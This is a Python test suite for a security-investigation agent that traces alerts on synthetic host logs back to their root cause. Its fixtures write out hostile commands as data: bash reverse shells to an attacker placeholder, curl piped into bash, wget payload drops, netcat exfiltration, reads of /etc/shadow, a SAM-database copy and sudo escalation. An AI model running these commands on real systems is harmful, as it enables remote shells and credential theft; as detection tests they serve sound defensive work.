"""Where a case began: the root is what brought the alert about, not what is older, near or of the same name."""

from tests.agent.staging import ATTACKER, Stage
from watchfloor.agent.case import Alert, Investigation
from watchfloor.agent.growing import Growth
from watchfloor.agent.investigating import Investigator

OTHER = "198.51.100.77"
DESK = 60


def worked(stage: Stage, *records: str, odd: dict[str, float] | None = None) -> Investigation:
    return Investigator(stage.index(), odd or {}).investigate(Alert("c", records))


def began(found: Investigation) -> str:
    assert found.root_cause is not None
    return found.root_cause.event_ids[0]


def quiet() -> Stage:
    """An hour of a desk that answers its customer, and of people at work."""
    stage = Stage()
    for n in range(24):
        stage.accept(n * 150.0, DESK, "10.0.0.9")
        stage.run(n * 150.0 + 0.2, 1_000 + n, 5_000 + n, f"/bin/sh -c 'render order-{n}'")
        shell = stage.log_in(n * 150.0 + 20, 1_200 + n * 10, "ana", "10.0.0.5", f"a{n}")
        stage.run(n * 150.0 + 25, 1_205 + n * 10, shell, f"vim notes-{n}", "ana", f"a{n}")
    return stage


def asked(stage: Stage, at: float, pid: int, command: str, address: str = ATTACKER) -> str:
    stage.accept(at, DESK, address)
    return stage.run(at + 0.2, pid, pid + 5_000, command)


def test_of_repeated_visits_the_first_is_the_root_and_not_the_one_that_gave_the_shell() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'render order-7;id'")
    asked(stage, 960, 2_010, f"/bin/sh -c 'render x; bash -i >& /dev/tcp/{ATTACKER}/443 0>&1'")
    stage.run(961, 2_011, 2_010, "bash -i")
    planted = stage.run(1_500, 2_020, 2_011, "chmod 755 /srv/desk/prune")
    ran = stage.run(2_400, 2_030, 4_000, "/bin/sh /srv/desk/prune", "root")
    assert began(worked(stage, planted)) == first
    assert began(worked(stage, ran)) == first


def test_what_sudo_became_leads_back_to_who_said_sudo() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'bash -i'")
    stage.run(905, 2_001, 2_000, "sudo -n find /srv -exec /bin/bash ;")
    stage.run(905.1, 2_050, 8_888, "find /srv -exec /bin/bash ;", "root")
    stage.run(905.2, 2_051, 2_050, "/bin/bash", "root")
    late = stage.run(2_000, 2_052, 2_051, "useradd -m mailq", "root")
    found = worked(stage, late)
    assert began(found) == first


def test_the_same_command_an_hour_later_was_not_handed_over() -> None:
    stage = quiet()
    said = stage.run(900, 2_001, 40, "sudo -n service-check --all", "ana")
    other = stage.run(2_900, 2_050, 8_888, "service-check --all", "root")
    assert said not in worked(stage, other).operations


def test_requests_and_log_ins_of_one_stranger_are_one_case_whichever_the_alert_is_of() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'git show HEAD~3:deploy.key'")
    shell = stage.log_in(1_500, 3_000, "robot", ATTACKER, "r")
    taken = stage.run(1_501, 3_005, shell, "tar czf /tmp/n.tgz /srv/notes", "robot", "r")
    assert began(worked(stage, taken)) == first
    assert taken in worked(stage, first).operations


def test_a_customer_who_also_logs_on_is_no_stranger() -> None:
    stage = quiet()
    request = asked(stage, 1_000, 2_000, "/bin/sh -c 'render order-99'", "10.0.0.5")
    assert worked(stage, request).operations == [request]


def test_who_logged_on_from_this_very_host_is_found_by_the_client() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'bash -i'")
    stage.run(1_000, 2_005, 2_000, "ssh deploy@10.0.0.1")
    stage.connect(1_000.1, 2_005, "10.0.0.1", 22)
    shell = stage.log_in(1_000.2, 3_000, "deploy", "10.0.0.1", "d")
    done = stage.run(1_001, 3_005, shell, "id", "deploy", "d")
    assert began(worked(stage, done)) == first


def test_a_dial_to_the_host_itself_gives_nobody_elses_address_to_it() -> None:
    stage = quiet()
    stage.run(1_000, 2_005, 40, "ssh deploy@127.0.0.1", "ana")
    stage.connect(1_000.1, 2_005, "127.0.0.1", 22)
    stage.log_in(1_000.2, 3_000, "ana", OTHER, "d")
    assert OTHER not in stage.index().own_addresses


def test_a_hook_that_runs_in_everybodys_sessions_does_not_make_two_intrusions_one() -> None:
    stage = quiet()
    theirs = stage.run(700, 2_500, 61, f"wget -q http://{OTHER}/r -O /usr/local/lib/refresh", "root")
    stage.touch(700.1, 2_500, "/usr/local/lib/refresh", user="root")
    for n in range(6):
        shell = stage.log_in(1_000 + n * 150.0, 3_000 + n * 10, "ana", "10.0.0.5", f"h{n}")
        stage.run(1_000.5 + n * 150.0, 3_005 + n * 10, shell, "/bin/sh /usr/local/lib/refresh", "ana", f"h{n}")
    shell = stage.log_in(2_500, 4_000, "ana", ATTACKER, "x")
    hook = stage.run(2_500.5, 4_005, shell, "/bin/sh /usr/local/lib/refresh", "ana", "x")
    mine = stage.run(2_600, 4_006, shell, "cat /etc/shadow", "ana", "x")
    found = worked(stage, mine)
    assert theirs not in found.operations
    assert theirs in worked(stage, hook).operations  # an alert of the hook is about who planted it


def test_a_plant_that_runs_in_another_strangers_session_does_not_bring_that_stranger_in() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'bash -i'")
    stage.run(905, 2_001, 2_000, f"wget -q http://{ATTACKER}/r -O /usr/local/lib/refresh", "root")
    planted = stage.touch(905.1, 2_001, "/usr/local/lib/refresh", user="root")
    shell = stage.log_in(2_500, 4_000, "ana", OTHER, "x")
    hook = stage.run(2_500.5, 4_005, shell, "/bin/sh /usr/local/lib/refresh", "ana", "x")
    theirs = stage.run(2_600, 4_006, shell, "cat /etc/shadow", "ana", "x")
    found = worked(stage, planted)
    assert began(found) == first
    assert hook in found.operations and theirs not in found.operations


def test_a_service_may_fork_for_a_visitor_and_become_another_account() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'render a'")
    stage.accept(1_000, DESK, ATTACKER, "root")
    stage.row(1_000.1, "file.read", 2_100, file__path="/srv/desk/label", actor__user__name="www-data",
              actor__process__parent_process__uid=f"shop-1/{DESK}")  # fmt: skip
    taken = stage.run(1_000.2, 2_101, 2_100, "/bin/sh -c 'id'")
    assert first in worked(stage, taken).operations


def test_what_is_older_and_only_met_on_the_way_is_not_the_root() -> None:
    stage = quiet()
    older = stage.run(600, 2_500, 61, f"/bin/sh -c 'nc {OTHER} 9 < /srv/list'", "mail")
    stage.connect(600.1, 2_500, OTHER)
    first = asked(stage, 900, 2_000, "/bin/sh -c 'bash -i'")
    alert = stage.run(905, 2_001, 2_000, "chmod 755 /srv/desk/prune")
    after = stage.run(1_500, 2_600, 62, "/bin/sh /srv/desk/prune", "root")
    stage.run(1_501, 2_601, 2_600, f"curl http://{OTHER}/x", "root")
    stage.connect(1_501.1, 2_601, OTHER)
    index = stage.index()
    growth = Growth(index)
    growth.seed([index.owners[index.row_of(alert)]])
    growth.run()
    assert {index.owners[index.row_of(one)] for one in (older, after)} <= growth.members.keys()
    assert began(worked(stage, alert)) == first


def test_a_failed_log_in_is_not_all_that_the_server_ever_did() -> None:
    stage = Stage()
    stage.run(10, 40, 1, "/usr/sbin/sshd", "root")
    tried = []
    for n in range(12):
        tried.append(stage.run(60 + n * 200.0, 3_000 + n * 10, 40, "/usr/sbin/sshd -R", "root"))
        stage.run(60.2 + n * 200.0, 3_001 + n * 10, 3_000 + n * 10, "-bash", "ana", f"s{n}")
    assert not set(tried) - {tried[5]} & set(worked(stage, tried[5]).operations)


def test_a_service_that_names_its_visitors_is_believed_and_its_own_workers_are_nobodys() -> None:
    stage = quiet()

    def forked(at: float, pid: int, title: str) -> str:
        return stage.row(at, "file.read", pid, file__path=f"/srv/db/{pid}", actor__user__name="db",
                         actor__process__file__path="/usr/bin/db", actor__process__cmd_line=title,
                         actor__process__parent_process__uid="shop-1/90")  # fmt: skip

    stage.accept(300, 90, "10.0.0.9", "db")
    stage.accept(900, 90, ATTACKER, "db")
    worker = forked(900.5, 2_000, "db: autovacuum worker")
    served = forked(901, 2_001, f"db: report {ATTACKER}(5123) SELECT")
    taken = stage.run(901.2, 2_002, 2_001, f"sh -c 'curl http://{ATTACKER}/d.sh | bash'", "db")
    found = worked(stage, taken).operations
    assert served in found and worker not in found


def test_a_connection_whose_record_bears_the_time_when_the_service_began_to_wait_still_names_the_visitor() -> None:
    stage = quiet()
    first = asked(stage, 900, 2_000, "/bin/sh -c 'render a'")
    stage.run(1_003, 2_900, 50, "/usr/sbin/logtool", "root")
    stage.accept(960, DESK, ATTACKER)  # written now, stamped then
    second = stage.run(1_006, 2_010, 7_010, f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/443'")
    assert first in worked(stage, second).operations


def test_of_a_whole_scene_the_code_from_outside_is_meant_and_not_the_persons_own_commands() -> None:
    stage = quiet()
    shell = stage.log_in(2_000, 4_000, "ana", "10.0.0.5", "d")
    own = stage.run(2_001, 4_005, shell, "git status", "ana", "d")
    brought = stage.run(2_010, 4_011, shell, "python3 /usr/bin/pip install colour-lib", "ana", "d")
    taken = stage.run(2_011, 4_012, 4_011, f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/443 0>&1'", "ana", "d")
    stage.connect(2_011.1, 4_012, ATTACKER)
    found = worked(stage, own, taken)
    assert began(found) == brought and own not in found.operations


def test_hostile_lineage_and_a_thousand_visits_end() -> None:
    stage = quiet()
    stage.run(900, 2_000, 2_001, "sudo sudo sudo")
    stage.run(900.1, 2_001, 2_000, "sudo sudo")
    visits = [asked(stage, 1_000 + n, 3_000 + n, "/bin/sh -c 'id'") for n in range(1_000)]
    assert began(worked(stage, visits[500])) == visits[0]
    assert worked(stage, "made.log#1").operations


def test_on_windows_a_copy_of_the_account_database_is_no_service_and_not_closed_as_benign() -> None:
    stage = Stage("ws-5")
    stage.row(0, "process.launch", 1, device__os="windows", process__uid="ws-5/2", process__pid=2,
              actor__user__name="WS-5\\ana", process__file__path="C:\\windows\\system32\\cmd.exe",
              process__cmd_line="cmd.exe")  # fmt: skip
    copied = stage.row(
        5, "process.launch", 2, device__os="windows", process__uid="ws-5/3", process__pid=3,
        actor__user__name="WS-5\\ana",
        process__file__path="C:\\windows\\system32\\esentutl.exe",
        process__cmd_line="esentutl.exe /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM",
    )  # fmt: skip
    found = worked(stage, copied)
    assert found.verdict != "benign" and found.entry_point is not None
    assert "service" not in found.entry_point.text


def test_on_windows_nothing_is_closed_and_a_log_on_session_without_a_program_is_named_by_its_account() -> None:
    stage = Stage("ws-5")
    seen = stage.row(0, "logon.success", 4, device__os="windows", actor__user__name="WS-5\\ana", user__name="WS-5\\ana")
    found = worked(stage, seen)
    assert found.verdict == "suspicious" and any("Windows" in one for one in found.open_questions)
    assert found.root_cause is not None and not found.rejected


def test_on_windows_what_the_screen_is_sure_of_stands_and_the_case_says_whose_word_it_is() -> None:
    stage = Stage("ws-5")
    seen = stage.row(0, "logon.success", 4, device__os="windows", actor__user__name="WS-5\\ana", user__name="WS-5\\ana")
    investigator = Investigator(stage.index())
    sure = investigator.investigate(Alert("c", (seen,), verdict="malicious"))
    assert sure.verdict == "malicious"
    assert any("screen's" in question for question in sure.open_questions)
    assert investigator.investigate(Alert("c", (seen,), verdict="suspicious")).verdict == "suspicious"
